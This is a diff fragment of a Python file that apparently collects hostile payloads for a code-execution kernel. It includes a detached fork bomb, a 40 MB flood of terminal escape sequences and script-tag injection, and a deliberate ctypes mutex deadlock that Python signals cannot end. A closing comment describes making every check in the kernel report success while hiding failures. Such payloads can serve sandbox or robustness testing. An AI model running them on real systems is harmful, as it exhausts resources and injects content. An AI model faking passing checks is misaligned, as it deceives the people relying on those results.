@@ -50,11 +50,15 @@ CODE = """{BOMB.replace("os.fork()", "os.fork() and os.setsid()")}"""
 subprocess.Popen([sys.executable, "-c", CODE], start_new_session=True)
 '''
 
-# 40 MB that would do something in a terminal or a browser, and then a loop in C that no signal of Python ends.
+# 40 MB that would do something in a terminal or a browser, and then a wait in C that no signal of Python ends: it keeps
+# the GIL, as an endless loop in C would, but leaves the processor to others.
 FLOOD = """
 for _ in range(100):
     print("\\x1b]0;marks\\x07<script>alert(9)</script>" * 10_000)
-sum(iter(int, 1))
+import ctypes
+lock = ctypes.create_string_buffer(64)
+for _ in range(2):
+    ctypes.PyDLL(None).pthread_mutex_lock(lock)
 """
 
 # Everything in the kernel that has to do with a check says that all is well, and no cell shows that it fails.
